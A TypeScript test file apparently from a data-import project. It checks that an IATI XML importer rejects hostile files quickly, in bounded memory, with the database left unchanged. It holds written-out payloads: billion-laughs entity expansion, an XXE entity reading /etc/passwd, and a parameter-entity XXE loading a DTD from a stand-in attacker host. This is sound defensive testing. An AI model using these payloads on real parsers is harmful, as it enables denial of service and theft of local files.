import { closeSync, mkdtempSync, openSync, readFileSync, rmSync, writeSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { describeRejection, importIatiFile } from '../../../connectors/iati/import.js';
import { loadConfig } from '../../../src/config.js';
import { tableCounts, testDatabase, type TestDatabase } from '../../support/db.js';
import { importRunCount, importRunRow } from '../../support/import-log.js';
import { sample } from '../../support/sample-data.js';

/**
 * Hostile inputs are refused as a whole, quickly, in bounded memory, leaving the database as it
 * was apart from the log row of the rejected run. Where the input allows it, the hostile activity
 * follows 128 real ones, so a batch of real activities has been written inside the import's
 * transaction when the problem is found, and the rollback has something to undo
 * (rejected-file-rollback.test.ts makes the batch still in flight at that moment every time).
 */
const limits = loadConfig().importLimits;
const MB = 1024 * 1024;
const MAX_SECONDS = 10;
/**
 * Peak RSS growth during one import. A 50 MB text held three times over would pass it; what the
 * limit allows is the import's own working set and garbage not yet collected (the file's hash
 * reads the whole file in 1 MB buffers).
 */
const MAX_RSS_GROWTH = 150 * MB;
const FIFTY_MB = 50 * MB;

/**
 * Real activities written before the hostile one: two parser jobs' worth (64 chunks each), so
 * with batches of 64 the first batch is handed to the loader shortly before the problem is found.
 */
const BATCH = 64;
const REAL_ACTIVITIES = 2 * BATCH;
const realActivities = ((): string => {
  const real = readFileSync(sample('iati', 'activities', 'v2', 'dportal-covid-401.xml'), 'utf8');
  let end = 0;
  for (let i = 0; i < REAL_ACTIVITIES; i += 1) end = real.indexOf('</iati-activity>', end) + '</iati-activity>'.length;
  return `${real.slice(0, end)}\n`;
})();

/** The line the next character goes on, after `text`. */
function lineAfter(text: string): number {
  return text.split('\n').length;
}

/** About `chars` characters of `piece` repeated, in blocks of 1 MB, so the test never holds the whole. */
function* repeated(piece: string, chars: number): Generator<string> {
  const block = piece.repeat(Math.ceil(MB / piece.length));
  for (let written = 0; written < chars; written += block.length) yield block;
}

function writeParts(file: string, parts: Iterable<string | Buffer>): void {
  const fd = openSync(file, 'w');
  try {
    for (const part of parts) {
      if (typeof part === 'string') writeSync(fd, part);
      else writeSync(fd, part);
    }
  } finally {
    closeSync(fd);
  }
}

interface Hostile {
  /** What goes into the file, in order. */
  readonly parts: Iterable<string | Buffer>;
  /** The line the error must name. */
  readonly line: number;
}

/** The real activities, then one whose third line starts with `content`. */
function afterRealActivities(content: () => Iterable<string>): Hostile {
  const activityLine = lineAfter(realActivities);
  function* parts(): Generator<string> {
    yield realActivities;
    yield '<iati-activity default-currency="USD">\n<iati-identifier>XX-HOSTILE-1</iati-identifier>\n';
    yield* content();
    yield '\n</iati-activity>\n</iati-activities>\n';
  }
  return { parts: parts(), line: activityLine + 2 };
}

const LAUGHS = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE iati-activities [',
  ' <!ENTITY lol "lol">',
  ...Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i === 0 ? '' : i};`.repeat(10)}">`),
  ']>',
  '<iati-activities version="2.03"><iati-activity><iati-identifier>XX-LAUGHS</iati-identifier>',
  '<title><narrative>&lol9;</narrative></title></iati-activity></iati-activities>',
  '',
].join('\n');

const XXE = [
  '<?xml version="1.0" encoding="UTF-8"?>',
  '<!DOCTYPE iati-activities [ <!ENTITY xxe SYSTEM "file:///etc/passwd"> ]>',
  '<iati-activities version="2.03"><iati-activity><iati-identifier>XX-XXE</iati-identifier>',
  '<reporting-org ref="XX-1"><narrative>&xxe;</narrative></reporting-org></iati-activity></iati-activities>',
  '',
].join('\n');

const PARAMETER_XXE = [
  '<?xml version="1.0"?>',
  '<!DOCTYPE iati-activities [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>',
  '<iati-activities version="2.03"/>',
  '',
].join('\n');

/** More than one read (256 KB) of comments before the DOCTYPE: its line is counted across reads. */
const COMMENT_LINES = 6000;
const LATE_DOCTYPE = `<?xml version="1.0"?>\n${'<!-- padding padding padding padding padding -->\n'.repeat(COMMENT_LINES)}${PARAMETER_XXE.slice(PARAMETER_XXE.indexOf('\n') + 1)}`;

interface Case {
  readonly name: string;
  readonly hostile: () => Hostile;
  readonly code: 'INVALID_XML' | 'LIMIT_EXCEEDED';
  readonly message: RegExp;
}

const DOCTYPE_REFUSED = /DOCTYPE declaration is not allowed/;
const TEXT_LIMIT = new RegExp(`more than ${limits.maxTextChars} characters of text or comment without a tag`);

const cases: readonly Case[] = [
  {
    name: 'billion laughs (nested entity expansion)',
    hostile: () => ({ parts: [LAUGHS], line: 2 }),
    code: 'INVALID_XML',
    message: DOCTYPE_REFUSED,
  },
  {
    name: 'billion laughs in a UTF-16 file',
    hostile: () => ({ parts: [Buffer.from(`\ufeff${LAUGHS.replace('?>', ' encoding="UTF-16"?>')}`, 'utf16le')], line: 2 }),
    code: 'INVALID_XML',
    message: DOCTYPE_REFUSED,
  },
  {
    name: 'external entity reading file:///etc/passwd (XXE)',
    hostile: () => ({ parts: [XXE], line: 2 }),
    code: 'INVALID_XML',
    message: DOCTYPE_REFUSED,
  },
  {
    name: 'external entity in a file with CRLF line ends',
    hostile: () => ({ parts: [XXE.replaceAll('\n', '\r\n')], line: 2 }),
    code: 'INVALID_XML',
    message: DOCTYPE_REFUSED,
  },
  {
    name: 'external parameter entity (XXE through a remote DTD)',
    hostile: () => ({ parts: [PARAMETER_XXE], line: 2 }),
    code: 'INVALID_XML',
    message: DOCTYPE_REFUSED,
  },
  {
    name: 'a DOCTYPE after 300 KB of comments',
    hostile: () => ({ parts: [LATE_DOCTYPE], line: COMMENT_LINES + 2 }),
    code: 'INVALID_XML',
    message: DOCTYPE_REFUSED,
  },
  {
    name: '10,000-deep nesting inside an activity',
    hostile: () => afterRealActivities(() => ['<a>'.repeat(10_000), '</a>'.repeat(10_000)]),
    code: 'LIMIT_EXCEEDED',
    message: new RegExp(`nested more than ${limits.maxDepth} deep`),
  },
  {
    name: 'a 50 MB single text node inside an activity',
    hostile: () => afterRealActivities(() => ['<title><narrative>', ...repeated('a', FIFTY_MB), '</narrative></title>']),
    code: 'LIMIT_EXCEEDED',
    message: TEXT_LIMIT,
  },
  {
    name: 'a 50 MB attribute value inside an activity',
    hostile: () => afterRealActivities(() => ['<description type="', ...repeated('b', FIFTY_MB), '"/>']),
    code: 'LIMIT_EXCEEDED',
    message: TEXT_LIMIT,
  },
  {
    name: 'a 50 MB comment inside an activity',
    hostile: () => afterRealActivities(() => ['<!--', ...repeated('c', FIFTY_MB), '-->']),
    code: 'LIMIT_EXCEEDED',
    message: TEXT_LIMIT,
  },
];

describe('hostile XML is rejected fast, in bounded memory, and leaves the database unchanged', () => {
  let db: TestDatabase;
  const dir = mkdtempSync(path.join(tmpdir(), 'tributary-hostile-'));
  beforeAll(async () => {
    db = await testDatabase();
    // Data already there, so "unchanged" is about more than empty tables.
    const seed = await importIatiFile(db.orm, sample('iati', 'activities', 'v2', 'fcdo-activity.xml'), { limits, workers: 0 });
    expect(seed.status).toBe('succeeded');
  });
  afterAll(async () => {
    rmSync(dir, { recursive: true, force: true });
    await db?.close();
  });

  interface Expected {
    readonly code: string;
    readonly message: RegExp;
    readonly line: number;
    readonly maxRssGrowth: number;
  }

  async function rejectsAndKeepsDatabase(file: string, expected: Expected): Promise<void> {
    const before = await tableCounts(db.orm, ['import_run']);
    const runsBefore = await importRunCount(db.orm);

    const rssBefore = process.memoryUsage().rss;
    let rssPeak = rssBefore;
    const sampler = setInterval(() => {
      rssPeak = Math.max(rssPeak, process.memoryUsage().rss);
    }, 5);
    const started = performance.now();
    const result = await importIatiFile(db.orm, file, { limits, workers: 0, batchSize: BATCH }).finally(() => clearInterval(sampler));
    const seconds = (performance.now() - started) / 1000;
    rssPeak = Math.max(rssPeak, process.memoryUsage().rss);

    expect(result.status).toBe('rejected');
    expect(result.error?.code).toBe(expected.code);
    expect(result.error?.message).toMatch(expected.message);
    expect(result.error?.where.line).toBe(expected.line);
    const described = result.error ? describeRejection(result.error) : '';
    expect(described).toContain(path.basename(file));
    expect(described).toContain(`line ${expected.line}`);
    expect(seconds).toBeLessThan(MAX_SECONDS);
    expect(rssPeak - rssBefore).toBeLessThan(expected.maxRssGrowth);

    expect(await tableCounts(db.orm, ['import_run'])).toEqual(before);
    expect(await importRunCount(db.orm)).toBe(runsBefore + 1);
    expect(await importRunRow(db.orm, result.runId)).toMatchObject({
      input: file,
      status: 'rejected',
      error_code: expected.code,
      error_line: expected.line,
      loaded: 0,
      quarantined: 0,
    });
  }

  it.each(cases.map((c) => [c.name, c] as const))('%s: rejected with the line, the database unchanged', async (_name, c) => {
    const file = path.join(dir, 'hostile.xml');
    const { parts, line } = c.hostile();
    writeParts(file, parts);
    try {
      await rejectsAndKeepsDatabase(file, { code: c.code, message: c.message, line, maxRssGrowth: MAX_RSS_GROWTH });
    } finally {
      rmSync(file, { force: true });
    }
  });

  it('an activity with more elements than the limit is rejected at its first line, before its tree grows further', async () => {
    const file = path.join(dir, 'many-elements.xml');
    const activityLine = lineAfter(realActivities);
    writeParts(file, [
      realActivities,
      '<iati-activity default-currency="USD">\n<iati-identifier>XX-MANY-1</iati-identifier>\n<description>\n',
      '<narrative/>'.repeat(limits.maxActivityElements + 10),
      '\n</description>\n</iati-activity>\n</iati-activities>\n',
    ]);
    try {
      await rejectsAndKeepsDatabase(file, {
        code: 'LIMIT_EXCEEDED',
        message: new RegExp(`an <iati-activity> has more than ${limits.maxActivityElements} elements`),
        line: activityLine,
        maxRssGrowth: MAX_RSS_GROWTH,
      });
    } finally {
      rmSync(file, { force: true });
    }
  });

  it('an activity longer than the limit (made of ordinary elements) is rejected at its first line', async () => {
    const file = path.join(dir, 'long-activity.xml');
    const activityLine = lineAfter(realActivities);
    // Long elements, so that the character limit comes before the element limit.
    const element = `<narrative>${'Lorem ipsum dolor sit amet, consectetur adipiscing. '.repeat(10)}</narrative>\n`;
    writeParts(file, [
      realActivities,
      '<iati-activity default-currency="USD">\n<iati-identifier>XX-LONG-1</iati-identifier>\n<description>\n',
      ...repeated(element, limits.maxActivityChars + 4 * MB),
      '</description>\n</iati-activity>\n</iati-activities>\n',
    ]);
    try {
      await rejectsAndKeepsDatabase(file, {
        code: 'LIMIT_EXCEEDED',
        message: new RegExp(`an <iati-activity> is longer than ${limits.maxActivityChars} characters`),
        line: activityLine,
        // The activity is held whole up to the limit (32 M characters), once.
        maxRssGrowth: MAX_RSS_GROWTH + limits.maxActivityChars * 3,
      });
    } finally {
      rmSync(file, { force: true });
    }
  });
});
